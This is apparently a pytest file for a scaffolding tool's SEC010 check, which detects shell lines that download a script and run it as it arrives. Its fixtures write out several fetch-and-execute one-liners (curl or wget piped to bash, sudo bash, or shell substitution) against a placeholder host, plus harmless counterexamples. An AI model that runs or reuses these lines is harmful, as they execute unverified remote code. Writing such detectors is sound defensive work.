"""SEC010: downloads that are run as they arrive."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from support import ScriptedToolchain

from scaffolder import checks
from scaffolder.model import Report
from scaffolder.repository.project import Project


def checked(
    root: Path, check: str, files: dict[str, str], *, tools: dict[str, Any] | None = None
) -> Report:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return checks.run(
        Project(root), checks.choose(select=[check], ignore=[]), ScriptedToolchain(tools or {})
    )


def found(root: Path, check: str, files: dict[str, str]) -> list[str]:
    report = checked(root, check, files)
    assert report.results, report.inapplicable
    return [
        f"{one.path.as_posix()}:{one.line}: {one.message}" for one in report.results[0].findings
    ]


DOWNLOADS = {
    "curl to bash": ("curl -fsSL https://x.example/i.sh | bash\n", ["1"]),
    "with rights": ("wget -qO- https://x.example/i.sh | sudo -E bash -\n", ["1"]),
    "over two lines": ("true\ncurl https://x.example/i.sh \\\n  | sh -s -- -y\n", ["2"]),
    "by substitution": ('bash -c "$(curl -fsSL https://x.example/i.sh)"\n', ["1"]),
    "by a file that is none": ("bash <(curl -s https://x.example/i.sh)\n", ["1"]),
    "to another program": ("curl https://x.example/a | jq . | tee b\n", []),
    "to a file": ("curl -o a https://x.example/a && sha256sum -c a.sum && sh a\n", []),
    "to a program that ends in sh": ("curl https://x.example/a | fish_add\n", []),
    "a comment": ("# curl https://x.example/i.sh | bash\n", []),
}


@pytest.mark.parametrize(("text", "lines"), DOWNLOADS.values(), ids=DOWNLOADS)
def test_a_download_is_not_run_as_it_arrives(text: str, lines: list[str], tmp_path: Path) -> None:
    assert [one.split(":")[1] for one in found(tmp_path, "SEC010", {"install.sh": text})] == lines
